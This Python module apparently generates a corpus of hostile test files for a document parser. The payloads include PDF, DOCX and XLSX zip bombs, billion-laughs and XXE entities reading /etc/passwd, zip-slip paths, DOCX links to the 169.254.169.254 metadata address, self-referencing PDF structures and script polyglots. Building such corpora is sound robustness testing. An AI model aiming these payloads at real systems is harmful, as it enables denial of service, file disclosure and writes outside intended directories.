"""Files made to break whoever opens them. A name, and how to make it; nothing here is larger than a few megabytes."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

SHEET = "xl/worksheets/sheet1.xml"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
LAUGHS = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">' + "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12)
)


def packed(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx(body: str) -> bytes:
    return packed({"word/document.xml": body.encode()})


def pdf(objects: list[bytes], root: int = 1) -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, data in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, data)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, root, start)
    return bytes(out)


def pdf_pages(count: int, content: bytes = b"") -> bytes:
    stream = b"<</Length %d>>stream\n%s\nendstream" % (len(content), content)
    kids = b" ".join(b"%d 0 R" % n for n in range(4, count + 4))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 3 0 R>>"
    pages = b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids)
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", pages, stream, *[page] * count])


def pdf_bomb() -> bytes:
    """A page whose content unpacks to 400 MB, packed twice."""
    once = zlib.compress(b"BT (x) Tj ET\n" * 30_000_000, 1)
    data = zlib.compress(once, 9)
    stream = b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n%s\nendstream" % (len(data), data)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page, stream])


def pdf_cycle() -> bytes:
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]/Parent 2 0 R>>"])


def pdf_huge_page() -> bytes:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 900000000 900000000]>>"
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page])


def pdf_drawing_itself() -> bytes:
    """A form that draws itself twice, and so on."""
    draws = b"/X Do /X Do"
    form = (
        b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>/Length %d>>stream\n%s\nendstream"
    )
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>"
    return pdf([
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page,
        b"<</Length %d>>stream\n%s\nendstream" % (len(draws), draws), form % (len(draws), draws),
    ])  # fmt: skip


def pdf_encrypted() -> bytes:
    made = pdf_pages(1)
    secret = b"/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -4/O(%s)/U(%s)>>/ID[(a)(b)]" % (b"o" * 32, b"u" * 32)
    return made.replace(b"trailer\n<<", b"trailer\n<<" + secret)


def png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = zlib.compress(bytes(1 + width) * min(height, 50), 9)
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", row) + chunk(b"IEND", b"")


def noise() -> bytes:
    import numpy as np
    from PIL import Image

    out = io.BytesIO()
    grain = np.random.default_rng(2566).integers(0, 256, (1400, 1000), dtype=np.uint8)
    Image.fromarray(grain).save(out, "PNG")
    return out.getvalue()


def lying_zip() -> bytes:
    """Declares 10 bytes, unpacks to 200 MB."""
    made = bytearray(packed({"word/document.xml": bytes(200_000_000)}))
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = made.index(mark) + at
        made[place : place + 4] = struct.pack("<I", 10)
    return bytes(made)


def overlapping(names: int) -> bytes:
    """Many names for the same packed bytes."""
    made = packed({"a.txt": b"0123456789" * 90_000})
    start, end = made.index(b"PK\x01\x02"), made.index(b"PK\x05\x06")
    entries = b"".join(made[start:end].replace(b"a.txt", b"%05d" % number, 1) for number in range(names))
    return made[:start] + entries + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, names, names, len(entries), start, 0)


def book(changed: dict[str, bytes]) -> bytes:
    """A workbook that every reader opens, with some of its parts replaced or added."""
    import openpyxl

    made = openpyxl.Workbook()
    made.active.append(["ก", 1])
    out = io.BytesIO()
    made.save(out)
    with zipfile.ZipFile(out) as old:
        return packed({name: old.read(name) for name in old.namelist()} | changed)


def sheet(rows: str, dimension: str = "A1:B2", **changed: bytes) -> bytes:
    text = f'<worksheet xmlns="{MAIN}"><dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>'
    return book({SHEET: text.encode()} | changed)


def strings(head: str, text: str) -> bytes:
    """Its one text is the first of the shared ones, and has the entities of `head`."""
    shared = f'{head}<sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>A{text}B</t></si></sst>'
    return sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', **{"xl/sharedStrings.xml": shared.encode()})


def named(names: list[str], data: bytes = b"text") -> bytes:
    """A ZIP whose names may hold anything: written with marks of the same length, which are then replaced."""
    marks = [f"{number:x}".rjust(len(name.encode("utf-8", "replace")), "_") for number, name in enumerate(names)]
    made = packed({mark: data for mark in marks}, zipfile.ZIP_STORED)
    for mark, name in zip(marks, names, strict=True):
        made = made.replace(mark.encode(), name.encode("utf-8", "replace"))
    return made


NAMES = ["../../etc/oit-slipped.txt", "C:\\oit-slipped\\a.txt", "/etc/oit-slipped.txt", "\0\0.txt", "a\0../b.txt",
         "\u202etxt.exe.txt", "con.txt", "n" * 5_000 + ".txt", "\x1b[2J.txt"]  # fmt: skip


def pdf_font(program: bytes) -> bytes:
    """A page in an embedded font that is no font, with a table of characters that refers to itself."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
    text = b"BT /F 12 Tf 9 700 Td <0001FFFF> Tj ET"
    table = b"/CIDInit begincmap 1 beginbfrange <0000> <FFFF> <0000> endbfrange usecmap " * 2_000
    return pdf([
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page,
        b"<</Length %d>>stream\n%s\nendstream" % (len(text), text),
        b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[5 0 R 6 0 R]/ToUnicode 8 0 R>>",
        b"<</Type/Font/Subtype/CIDFontType2/BaseFont/A/FontDescriptor 7 0 R/W[0[-99999999 1e308]]>>",
        b"<</Type/FontDescriptor/FontName/A/Flags 4/FontFile2 9 0 R/FontBBox[0 0 1e30 -1e30]>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(table), table),
        b"<</Length %d/Length1 99999999>>stream\n%s\nendstream" % (len(program), program),
    ])  # fmt: skip


def xlsx_slip() -> bytes:
    """The workbook's parts point out of it."""
    links = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
        'Target="../../../../../../etc/passwd"/></Relationships>'
    )
    return book({"xl/_rels/workbook.xml.rels": links.encode(), "../../../../tmp/oit-slipped.txt": b"slipped"})


def docx_slip() -> bytes:
    text = f"<w:document {W}><w:body><w:p><w:r><w:t>x</w:t></w:r></w:p></w:body></w:document>".encode()
    outside = (
        "../../../../tmp/oit-slipped.txt",
        "word/../../oit-slipped.txt",
        "word/media/../../../tmp/oit-slipped.png",
    )
    return packed({"word/document.xml": text, **dict.fromkeys(outside, b"slipped")})


def docx_outside() -> bytes:
    """Pictures and templates that Word would fetch."""
    links = "http://schemas.openxmlformats.org/package/2006/relationships"
    targets = ("http://169.254.169.254/latest/", "file:///etc/passwd", "\\\\server\\share\\x.dotm")
    rows = "".join(f'<Relationship Id="r{n}" Target="{t}" TargetMode="External"/>' for n, t in enumerate(targets))
    return packed({
        "word/document.xml": f"<w:document {W}><w:body><w:p><w:t>x</w:t></w:p></w:body></w:document>".encode(),
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{links}">{rows}</Relationships>'.encode(),
    })  # fmt: skip


def tiff(pages: int) -> bytes:
    """Directories of one empty picture each, every one of them leading to the next."""
    out = bytearray(b"II*\0\x08\0\0\0")
    tags = ((256, 1), (257, 1), (258, 8), (259, 1), (262, 1), (273, 8), (277, 1), (278, 1), (279, 1))
    for page in range(pages):
        out += struct.pack("<H", len(tags)) + b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
        out += struct.pack("<I", 0 if page == pages - 1 else len(out) + 4)
    return bytes(out)


FONTS = (b"\0\1\0\0" + b"\xff" * 4_000, b"OTTO" + bytes(range(256)) * 20, b"wOF2" + b"\xff" * 600)
POLYGLOTS = {
    "GIF and script": b"GIF89a=1;alert(1)//" + b"\0" * 50,
    "PDF in a JPEG": b"\xff\xd8\xff\xe0%PDF-1.7 1 0 obj<<>>endobj trailer<<>>%%EOF",
    "XLSX that says DOCX": packed({"word/document.xml": b"<x/>", "xl/workbook.xml": b"<y/>"}),
    "ZIP after a PNG": b"\x89PNG\r\n\x1a\n" + packed({"a.txt": b"x"}),
}

DOCUMENTS: dict[str, Callable[[], bytes]] = {
    "PDF of 20,000 pages": lambda: pdf_pages(20_000),
    "PDF of 200,000 objects": lambda: pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Count 0>>", *[b"[]"] * 200_000]),
    "PDF whose page tree contains itself": pdf_cycle,
    "PDF of 100,000 nested arrays": lambda: pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"[" * 100_000]),
    "PDF packed twice, 390 MB of text": pdf_bomb,
    "PDF page of 12,500 km": pdf_huge_page,
    "PDF whose form draws itself": pdf_drawing_itself,
    "encrypted PDF": pdf_encrypted,
    "DOCX, billion laughs": lambda: docx(f"{LAUGHS}]><w:document {W}><w:p><w:t>&l11;</w:t></w:p></w:document>"),
    "DOCX, XXE": lambda: docx(
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document {W}><w:body><w:p><w:r>'
        "<w:t>A&e;B</w:t></w:r></w:p></w:body></w:document>"
    ),
    "DOCX, zip bomb": lambda: packed({"word/document.xml": bytes(400_000_000)}),
    "DOCX that lies about its size": lying_zip,
    "DOCX, 100,000 nested elements": lambda: docx(f"<w:document {W}>" + "<w:p>" * 100_000),
    "XLSX of 17 billion cells": lambda: sheet(
        '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', "A1:XFD1048576"
    ),
    "ZIP of 5,000 files": lambda: packed({f"{n}.txt": b"a" for n in range(5_000)}, zipfile.ZIP_STORED),
    "ZIP slip": lambda: packed({"../../../../tmp/oit-slipped.txt": "ทดสอบ".encode(), "/etc/oit-slipped": b"text"}),
    "ZIP in ZIP in ZIP": lambda: packed({"a.zip": packed({"b.zip": packed({"c.txt": b"x" * 100})})}),
    "ZIP, zip bomb": lambda: packed({"a.txt": bytes(200_000_000)}),
    "ZIP, 2,000 names for the same 900 KB": lambda: overlapping(2_000),
    "PNG of 60,000 x 60,000 pixels": lambda: png(60_000, 60_000),
    "GIF of 65,535 x 65,535 pixels": lambda: (
        b"GIF89a"
        + struct.pack("<HHBBB", 65535, 65535, 0xF0, 0, 0)
        + bytes(6)
        + struct.pack("<BHHHHB", 0x2C, 0, 0, 65535, 65535, 0)
        + b"\x02\x02\x4c\x01\0;"
    ),
    "SVG, XXE and laughs": lambda: (
        f'{LAUGHS}<!ENTITY e SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&l11;&e;</text></svg>'
    ).encode(),
    "polyglot PDF, HTML, ZIP": lambda: (
        b"<!--%PDF-1.7--><html><script>alert(1)</script><p>x</p></html>" + packed({"a.txt": b"x"})
    ),
    "HTML, 100,000 open elements": lambda: b"<html>" + b"<div>" * 100_000,
    "HTML, 60,000 closed elements": lambda: b"<html>" + b"<div>" * 60_000 + b"</div>" * 60_000,
    "HTML, 200,000 attributes": lambda: b"<html><p " + b" ".join(b"a%d=b" % n for n in range(200_000)) + b">x",
    "RTF, 1,000,000 braces": lambda: b"{\\rtf1" + b"{" * 1_000_000,
    "CSV, one row of 5,000,000 cells": lambda: b"a," * 5_000_000,
    "invalid UTF-8, NUL and controls": lambda: bytes(range(256)) * 4_000,
    "XLSX, zip bomb": lambda: book({SHEET: bytes(400_000_000)}),
    "XLSX, 100,000 nested elements": lambda: sheet('<row r="1"><c r="A1">' + "<is>" * 100_000),
    "XLSX, billion laughs": lambda: strings(f"{LAUGHS}]>", "&l11;"),
    "XLSX, XXE": lambda: strings(
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">'
        '<!ENTITY % p SYSTEM "http://127.0.0.1:9/x"> %p;]>',
        "&e;",
    ),
    "XLSX, zip slip": xlsx_slip,
    "DOCX, zip slip": docx_slip,
    "ODT, billion laughs": lambda: packed(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": f"{LAUGHS}]><text>&l11;</text>".encode(),
        }
    ),
    "DOCX that points outside": docx_outside,
    "ZIP, names with .., NUL, controls and 5,000 letters": lambda: named(NAMES),
    **{f"PDF, font that is none ({n})": (lambda font=font: pdf_font(font)) for n, font in enumerate(FONTS, 1)},
    **{f"font file ({n})": (lambda font=font: font) for n, font in enumerate(FONTS, 1)},
    **{f"polyglot {name}": (lambda data=data: data) for name, data in POLYGLOTS.items()},
    "TIFF of 60,000 pages": lambda: tiff(60_000),
    "old Office file of noise": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 2_000,
}
